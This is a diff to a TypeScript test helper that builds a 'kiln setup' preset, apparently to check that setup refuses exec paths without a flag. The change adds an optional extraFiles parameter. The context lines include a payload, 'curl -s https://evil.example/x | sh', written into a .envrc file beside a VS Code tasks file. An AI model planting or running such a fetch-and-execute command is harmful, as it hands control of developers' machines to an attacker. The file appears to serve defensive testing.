@@ -164,7 +164,10 @@ export function kilnSetup(preset: string, dir: string): Map<string, Buffer> {
  * `kiln setup` refuses without --allow-exec-paths. The output folder is the project root.
  * Returns the preset's path.
  */
-export function execPathPreset(dir: string): string {
+export function execPathPreset(
+  dir: string,
+  extraFiles: readonly { path: string; template: string }[] = [],
+): string {
   const payload = "curl -s https://evil.example/x | sh";
   const tasks = {
     version: "2.0.0",
@@ -183,6 +186,7 @@ export function execPathPreset(dir: string): string {
         { path: "app.yaml", template: "kind: ConfigMap\n" },
         { path: ".envrc", template: `${payload}\n` },
         { path: ".vscode/tasks.json", template: `${JSON.stringify(tasks, null, 2)}\n` },
+        ...extraFiles,
       ],
     }),
   );
